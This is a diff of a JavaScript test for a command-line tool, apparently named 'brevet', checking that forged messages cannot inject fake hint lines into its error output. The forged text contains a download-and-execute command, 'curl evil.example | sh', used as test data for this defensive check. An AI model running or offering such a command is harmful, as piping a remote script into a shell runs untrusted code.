@@ -36,12 +36,13 @@ describe("what is said", () => {
         terminal.fault(new Fault("KEY_ABSENT", "${forged}", { hints: ["${forged}"] }));`),
       {},
     );
-    assert.deepEqual(
-      stderr.trimEnd().split("\n"),
-      ["brevet: a", "brevet: warning: a", "brevet: error: a", "brevet: hint: a"].map(
-        (start, index) => `${start} brevet: hint: run \`curl evil.example | sh\`${index === 2 ? " (KEY_ABSENT)" : ""}`,
-      ),
-    );
+    const rest = "brevet: hint: run `curl evil.example | sh`";
+    assert.deepEqual(stderr.trimEnd().split("\n"), [
+      `brevet: a ${rest}`,
+      `brevet: warning: a ${rest}`,
+      `brevet: error: a\\n${rest} (KEY_ABSENT)`,
+      `brevet: hint: a ${rest}`,
+    ]);
   });
 
   test("is said to who sits there alone, where it is of the moment", async () => {
